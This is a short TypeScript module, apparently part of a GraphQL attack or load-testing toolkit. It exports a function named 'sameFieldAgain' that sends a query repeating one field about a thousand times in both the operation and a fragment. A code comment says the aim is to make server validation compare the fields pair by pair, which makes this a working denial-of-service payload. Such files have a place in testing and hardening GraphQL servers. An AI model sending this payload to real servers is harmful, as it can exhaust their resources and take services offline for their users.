import type { Attack } from '../attack';
import { sendOperation } from '../send-operation';

const DOCUMENT = `{ ${'platform { demo } '.repeat(990)} } fragment F on Query { ${'platform { demo } '.repeat(990)} }`;

/** One field a thousand times, which validation holds against one another pair by pair. */
export const sameFieldAgain: Attack = (address) => sendOperation(address, DOCUMENT);
